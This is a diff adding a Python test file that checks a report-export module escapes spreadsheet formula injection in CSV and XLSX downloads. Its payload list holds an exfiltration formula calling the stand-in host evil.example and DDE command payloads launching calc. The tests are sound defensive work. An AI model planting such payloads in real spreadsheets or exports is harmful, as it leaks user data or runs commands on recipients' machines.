@@ -1,0 +1,63 @@
+"""Safe output: a downloaded cell never runs as a formula (CSV and XLSX), as OWASP advises for CSV injection."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+
+import pandas as pd
+import pytest
+
+from reports.downloads import HEADER_ROWS, Column, Export, safe_cell, safe_csv_frame, to_csv, to_xlsx
+
+PAYLOADS = [
+    ('=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")"),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("-12.5", "-12.5"),  # a number stays a number
+    ("+86", "+86"),
+    ("-", "'-"),
+    ("长沙市某化工有限公司", "长沙市某化工有限公司"),
+    ("a=b", "a=b"),
+]
+
+
+@pytest.mark.parametrize(("text", "safe"), PAYLOADS)
+def test_safe_cell(text: str, safe: str) -> None:
+    assert safe_cell(text) == safe
+
+
+def _export(values: list[str]) -> Export:
+    frame = pd.DataFrame({"enterprise": values, "n": range(len(values))})
+    return Export("报表", "检索：=1+1", "测试", frame, [Column("enterprise", "单位", "Enterprise"),
+                                                      Column("n", "数量", "Count", "int")])
+
+
+def test_a_csv_download_writes_every_payload_as_text() -> None:
+    texts = [t for t, _s in PAYLOADS]
+    rows = list(csv.reader(io.StringIO(to_csv(_export(texts)).decode("utf-8-sig"), newline="")))
+    assert rows[1] == ["筛选条件", "检索：=1+1"]  # begins with 检: nothing to neutralise
+    body = rows[HEADER_ROWS + 1:]
+    assert [r[0] for r in body] == [s for _t, s in PAYLOADS]
+    assert [r[1] for r in body] == [str(i) for i in range(len(PAYLOADS))]
+
+
+def test_an_xlsx_download_has_no_formula() -> None:
+    data = to_xlsx(_export([t for t, _s in PAYLOADS]))
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    assert "<f>" not in sheet and "<f " not in sheet
+    # Each text is kept as it was, in a string cell (a carriage return is stored escaped, as XLSX does).
+    back = pd.read_excel(io.BytesIO(data), skiprows=HEADER_ROWS, dtype=str, engine="openpyxl")
+    assert back.iloc[:, 0].tolist() == [t.replace("\r", "_x000D_") for t, _s in PAYLOADS]
+
+
+def test_a_frame_written_with_pandas_is_made_safe_too() -> None:
+    frame = pd.DataFrame({"=cmd": ["=1+1", "ok", None], "n": [1, -2, 3]})
+    out = safe_csv_frame(frame)
+    assert list(out.columns) == ["'=cmd", "n"]
+    assert out["'=cmd"].tolist()[:2] == ["'=1+1", "ok"] and out["n"].tolist() == [1, -2, 3]
